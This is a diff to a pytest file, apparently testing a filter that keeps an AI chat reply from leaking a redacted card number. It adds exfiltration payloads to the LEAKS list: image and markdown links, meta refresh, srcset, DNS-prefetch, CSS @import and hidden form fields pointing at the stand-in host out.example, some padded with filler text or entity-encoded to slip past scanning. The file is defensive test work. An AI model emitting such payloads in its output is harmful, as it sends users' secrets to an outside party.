@@ -8,6 +8,7 @@ pytestmark = pytest.mark.anyio
 HIDDEN = "<CREDIT_CARD_1>"
 OUT = "https://out.example/?c="
 LETTER = "\u00e9"
+FAR = "a b " * 5000
 LEAKS = [
     f'<img src="{OUT} {HIDDEN}">',
     f'<img src="{OUT}<https://docs.example> {HIDDEN}">',
@@ -25,6 +26,24 @@ LEAKS = [
     f"<p style=\"background: url( '{OUT} {HIDDEN}')\">",
     f'<img src="&#x2f;&sol;out.example/?c= {HIDDEN}">',
     f"<img src=&#104;ttps&colon;&#x2f;&#x2f;out.example/?c={HIDDEN}>",
+    f'<img src="{OUT}{FAR}{HIDDEN}">',
+    f'<img src="{FAR}{OUT} {HIDDEN}">',
+    f"[x]({OUT}{FAR}{HIDDEN})",
+    f"[x](<{OUT}{FAR}{HIDDEN}>)",
+    f'<img alt="{FAR}" src ={" " * 9000}"{OUT} {HIDDEN}">',
+    f"[x]({OUT}{'a' * 30_000}{HIDDEN})",
+    f'<meta http-equiv=refresh content="0; url={OUT} {HIDDEN}">',
+    f"<meta http-equiv=refresh content='0,{OUT} {HIDDEN}'>",
+    f'<img srcset="a.png 1x, {OUT}{HIDDEN} 2x">',
+    f"<link rel=dns-prefetch href=//{HIDDEN}.out.example>",
+    f"<link rel=preconnect href='https://{HIDDEN}.out.example'>",
+    f'<svg><image href="{OUT} {HIDDEN}"/><use href="{OUT}1"/></svg>',
+    f"@import '{OUT}{HIDDEN}';",
+    f"[a]: {OUT}{HIDDEN}",
+    f"<{OUT}{HIDDEN}>",
+    f"//out.example/?c={HIDDEN}",
+    f'<base href="//out.example/"><img src="?c={HIDDEN}">',
+    f'<form action="{OUT}1"><input type=hidden name=c value="{HIDDEN}"></form>',
 ]
 HARMLESS = [
     f"pay with {HIDDEN}",
@@ -34,6 +53,11 @@ HARMLESS = [
     f"(see {OUT}1 for {HIDDEN})",
     f"[card](mailto:{HIDDEN})",
     f"www.docs.example/?c={HIDDEN}",
+    f'<b title="{FAR}{HIDDEN}">{FAR}{HIDDEN}</b>',
+    f'<a href="https://docs.example/?q={FAR}{HIDDEN}">x</a>',
+    f"https://docs.example/{'a' * 30_000}{HIDDEN}",
+    f'<a href="{OUT}{FAR}">shop</a> took {HIDDEN}',
+    f"a < b and x = 'it' for {HIDDEN}, see {OUT}1 or not",
 ]
 
 
@@ -55,8 +79,11 @@ async def answered(text):
     await wall.request(chat(("user", CARD)))
     payload = said(text)
     verdict = await wall.result(chat(), payload)
+    size = 7 if len(text) < 1000 else 997
     whole = (getattr(verdict, "payload", None) or payload)["choices"][0]["message"]["content"]
-    return whole, streamed(wall.stream(), [text[at : at + 7] for at in range(0, len(text), 7)])[0]
+    return whole, streamed(
+        wall.stream(), [text[at : at + size] for at in range(0, len(text), size)]
+    )[0]
 
 
 @pytest.mark.parametrize("text", LEAKS, ids=range(len(LEAKS)))
